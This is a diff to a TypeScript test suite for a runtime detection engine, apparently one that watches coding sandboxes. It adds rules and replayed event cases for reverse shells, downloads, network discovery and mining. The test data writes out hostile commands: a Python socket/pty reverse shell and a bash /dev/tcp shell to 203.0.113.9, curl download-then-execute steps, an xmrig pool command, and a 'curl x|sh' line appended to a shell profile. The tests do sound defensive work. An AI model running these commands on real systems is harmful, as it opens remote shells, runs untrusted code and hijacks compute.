@@ -9,6 +9,8 @@ import {
   gpuSample,
   networkDenied,
   networkDropped,
+  policyVerdict,
+  processSockets,
   processStart,
   proxyConnection,
   resourceSample,
@@ -37,7 +39,7 @@ describe('built-in rules', () => {
     const families = new Set(builtin.rules.map((r) => r.source));
     assert.deepEqual(
       [...families].sort(),
-      ['credentials', 'escape', 'evasion', 'exfiltration', 'gpu', 'ingress', 'mining', 'persistence', 'probing', 'tunnels'].map((f) => `rules/builtin/${f}.yaml`),
+      ['credentials', 'escape', 'evasion', 'exfiltration', 'findings', 'gpu', 'ingress', 'mining', 'persistence', 'probing', 'sockets', 'tunnels'].map((f) => `rules/builtin/${f}.yaml`),
     );
     for (const r of builtin.rules) assert.notEqual(r.tactic, null, `${r.id} names its tactic`);
   });
@@ -193,6 +195,26 @@ const ROME: [string, GuardEvent[], string, string][] = [
   ['zshrc through $HOME', cases(sh('echo "curl x|sh" >> "$HOME"/.zprofile')), 'shell-rc-modify', 'T1546.004'],
 ];
 
+// findings and their sequences, socket-aware process signals (rules/builtin/findings.yaml, sockets.yaml)
+const PY_RSH = ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'];
+ROME.push(
+  ['refused direct connection (finding)', cases(networkDenied('203.0.113.9', 443)), 'egress-refused', 'T1071'],
+  ['proxy refusal (finding)', cases(proxyConnection('evil.example.test', 443, { decision: 'denied' })), 'egress-denied-proxy', 'T1071'],
+  ['policy refusal (finding) with its own technique', cases(policyVerdict('xmrig -o pool')), 'policy-refusal', 'T1496'],
+  ['ip route (finding)', cases(processStart(['ip', 'route'])), 'network-discovery', 'T1016'],
+  ['ip neigh, then refused connections', [processStart(['ip', 'neigh']), networkDenied('10.0.0.7', 22, { time: T0 + 5000 })], 'discovery-then-connect', 'T1018'],
+  ['curl (finding)', cases(processStart(['curl', '-so', 'x', 'http://dl.example.test/x'])), 'download-tool', 'T1105'],
+  ['curl, then the download runs', [processStart(['curl', '-so', 'x', 'http://dl.example.test/x']), processStart(['./.x'], { exe: '/workspace/.cache/x', time: T0 + 500 })], 'download-then-exec', 'T1105'],
+  ['bash with a TCP socket on stdin', cases(processSockets(['bash', '-i'])), 'socket-stdio-shell', 'T1059.004'],
+  ['python REPL on a socket', cases(processSockets(['python3', '-i'], { exe: '/usr/bin/python3.11' })), 'socket-stdio-python', 'T1059.006'],
+  ['node REPL on a socket', cases(processSockets(['node', '-i'])), 'socket-stdio-javascript', 'T1059.007'],
+  ['lua on a socket', cases(processSockets(['lua5.4', '-i'])), 'socket-stdio-lua', 'T1059.011'],
+  ['perl on a socket', cases(processSockets(['perl'])), 'socket-stdio-interpreter', 'T1059'],
+  ['sh under a relay (socat EXEC, pty.spawn)', cases(processSockets(['/bin/sh'], { stdio: ['tty', 'tty', 'tty'], netSockets: 0, parentExe: '/usr/bin/socat', parentNetSockets: 1 })), 'socket-relay-shell', 'T1059.004'],
+  ['bash behind a refused connection (/dev/tcp)', cases(processSockets(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'shell-opened-connection', 'T1059.004'],
+  ['python dup2 one-liner behind a refused connection', cases(processSockets(PY_RSH, { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-shell-wiring', 'T1059.004'],
+);
+
 describe('ROME-class behaviour raises its rule', () => {
   for (const [what, events, ruleId, technique] of ROME) {
     it(`${what} -> ${ruleId} (${technique})`, () => {
@@ -286,7 +308,8 @@ const BENIGN: [string, GuardEvent[]][] = [
 describe('ordinary coding work raises nothing', () => {
   for (const [what, events] of BENIGN) {
     it(what, () => {
-      const alerts = replayEvents(builtin.rules, events, context);
+      // findings are weak signals kept with their step, not alerts
+      const alerts = replayEvents(builtin.rules, events, context).filter((a) => a.finding !== true);
       assert.deepEqual(alerts.map((a) => a.ruleId), []);
     });
   }
@@ -294,7 +317,7 @@ describe('ordinary coding work raises nothing', () => {
   it('nor does a whole day of it in one engine (no window adds it up)', () => {
     let time = T0;
     const day = BENIGN.flatMap(([, events]) => events.map((e) => ({ ...e, time: (time += 250) })));
-    assert.deepEqual(replayEvents(builtin.rules, day, context).map((a) => a.ruleId), []);
+    assert.deepEqual(replayEvents(builtin.rules, day, context).filter((a) => a.finding !== true).map((a) => a.ruleId), []);
   });
 });
 
